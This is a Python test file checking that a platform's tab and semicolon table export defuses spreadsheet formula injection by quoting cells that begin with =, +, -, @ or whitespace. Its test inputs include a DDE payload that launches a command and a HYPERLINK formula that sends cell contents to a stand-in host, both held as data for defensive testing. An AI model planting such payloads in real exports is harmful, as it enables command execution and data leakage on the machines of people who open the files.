"""Tables as text files: no cell begins another one, and no spreadsheet runs one."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from messa_platform.core.text_files import SEMICOLONS, TABS, harmless, line, table


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://a.example/?x="&A1,"Se här")',
        "+1+1",
        "+46 70 174 06 05",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "+",
        "+٤٦",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_a_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "Anna Ek", "+46701740605", "070-174 06 05", "a=1", "anna@kommun.example", "'=1", "1", "5-3"]
)
def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def test_columns_are_divided_by_tabs_and_white_space_within_a_cell_is_a_blank() -> None:
    assert line(("a\tb", " c\r\nd ", "+46701740605")) == "a b\tc d\t+46701740605\n"
    assert line(("a\x0b=1", "\t=1")) == "a =1\t'=1\n"


def test_what_hides_a_formula_behind_a_quotation_mark_is_a_text_too() -> None:
    written = line(('"=1+1"', '"', "x"))
    assert written == '"""=1+1"""\t""""\tx\n'
    assert next(csv.reader(io.StringIO(written), delimiter="\t")) == ['"=1+1"', '"', "x"]


def test_csv_is_divided_by_semicolons() -> None:
    assert table((("Namn", "a;b"), ("=x", "å")), SEMICOLONS) == 'Namn;"a;b"\n\'=x;å\n'


CELLS = st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=5)


@given(st.lists(CELLS, min_size=1, max_size=5), st.sampled_from([TABS, SEMICOLONS]))
def test_what_a_spreadsheet_reads_has_the_cells_that_were_written_and_no_formula(
    rows: list[list[str]], divider: str
) -> None:
    text = table(rows, divider).replace("\x00", "")
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=divider))
    assert [len(row) for row in read] == [len(row) for row in rows]
    for cell in (cell for row in read for cell in row):
        assert not cell.startswith(("=", "-", "@", "\t", "\r", "\n"))
        assert not cell.startswith("+") or cell[1:].isdigit()
